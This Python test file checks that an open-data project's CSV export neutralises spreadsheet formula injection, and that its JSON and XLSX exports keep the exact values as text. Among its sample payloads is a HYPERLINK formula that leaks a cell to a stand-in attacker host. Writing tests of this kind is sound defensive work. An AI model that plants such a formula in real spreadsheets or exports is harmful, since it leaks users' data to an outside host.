"""Issue 14, finding 4: a cell starting with a formula trigger reaches a spreadsheet as text."""

import csv
import io
import json

from cahier.catalogue.models import Initiative
from cahier.opendata.records import spreadsheet_safe
from tests.opendata.sheets import xlsx_cells

EXPORTS = "/api/v1/exports"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
PAYLOADS = {
    "porteur_label": HYPERLINK,
    "territory": "=1+1",
    "public": "@SUM(1+1)",
    "partners": ["+1+2", "Pôle emploi"],
    "description": "-3 jeunes sans solution",
    "results": "- premier point\n- second point",
    "added_value": ["\tTabulation", "Second point"],
}
CSV_CELLS = {
    "porteur": "'" + HYPERLINK,
    "territory": "'=1+1",
    "public": "'@SUM(1+1)",
    "partners": "'+1+2 | Pôle emploi",
    "description": "'-3 jeunes sans solution",
    "results": "'- premier point\n- second point",
    "added_value": "'\tTabulation | Second point",
}


def _rows(response):
    return {
        row["slug"]: row
        for row in csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline=""))
    }


def test_formula_triggers_are_neutralised_in_the_csv_only(client, sample_edition):
    Initiative.objects.filter(slug="fiche-1").update(**PAYLOADS)

    row = _rows(client.get(f"{EXPORTS}/initiatives.csv"))["fiche-1"]
    assert {name: row[name] for name in CSV_CELLS} == CSV_CELLS
    # Plain values and numbers are untouched.
    assert row["number"] == "1" and not row["title"].startswith("'")

    # The JSON stays exact.
    record = next(
        r
        for r in json.loads(client.get(f"{EXPORTS}/initiatives.json").getvalue())["initiatives"]
        if r["slug"] == "fiche-1"
    )
    assert (record["porteur"], record["territory"], record["partners"]) == (
        HYPERLINK,
        "=1+1",
        ["+1+2", "Pôle emploi"],
    )

    # The XLSX keeps exact values, typed as text: never a formula.
    rows = xlsx_cells(client.get(f"{EXPORTS}/initiatives.xlsx").getvalue())
    cells = next(row for row in rows if row["slug"].value == "fiche-1")
    assert cells["porteur"].value == HYPERLINK and cells["porteur"].data_type == "s"
    assert cells["territory"].value == "=1+1" and cells["territory"].data_type == "s"


def test_every_trigger_of_owasp_gets_the_quote_and_nothing_else_does():
    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "- liste"):
        assert spreadsheet_safe(value) == "'" + value
    for value in ("Texte", " =1+1", "'=1+1", "", 12, None):
        assert spreadsheet_safe(value) == value
